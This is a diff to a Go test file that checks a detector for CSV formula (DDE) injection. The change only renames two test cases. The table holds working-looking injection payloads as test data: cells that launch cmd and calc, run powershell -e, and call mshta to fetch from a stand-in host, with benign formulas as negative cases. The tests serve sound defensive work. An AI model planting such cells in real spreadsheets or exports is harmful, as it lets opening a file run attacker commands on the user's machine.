@@ -133,8 +133,8 @@ func TestHarms(t *testing.T) {
 		want       string
 	}{
 		{"a cell that starts a program", "a.csv", []byte("name,sum\n1,\"=cmd|'/c calc'!A0\"\n"), "dde"},
-		{"behind a sum", "a.csv", []byte("a\t@SUM(1+1)*powershell|' -e x'!A0\n"), "dde"},
-		{"behind a bar", "a.csv", []byte("x|-2+3+mshta|'http://a.example/x'!z\n"), "dde"},
+		{"after a sum", "a.csv", []byte("a\t@SUM(1+1)*powershell|' -e x'!A0\n"), "dde"},
+		{"after a bar", "a.csv", []byte("x|-2+3+mshta|'http://a.example/x'!z\n"), "dde"},
 		{"the function of Calc", "a.csv", []byte("x;=DDE(\"cmd\";\"/c calc\";\"x\")\n"), "dde"},
 		{"a sum", "a.csv", []byte("x,=SUM(A1:A2),-5,+4,@home\n"), ""},
 		{"a feed of prices", "a.csv", []byte("x,=BLP|M!'IBM US Equity,[LAST PRICE]'\n"), ""},
